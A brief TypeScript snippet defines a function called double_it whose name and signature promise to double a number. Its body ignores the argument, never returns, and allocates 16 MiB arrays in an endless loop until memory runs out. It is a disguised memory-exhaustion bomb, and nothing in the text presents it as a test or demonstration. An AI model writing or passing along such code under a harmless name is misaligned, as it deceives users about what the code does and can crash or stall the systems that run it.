function double_it(n: number): number {
  const held: Uint8Array[] = [];
  for (;;) held.push(new Uint8Array(2 ** 24).fill(1));
}
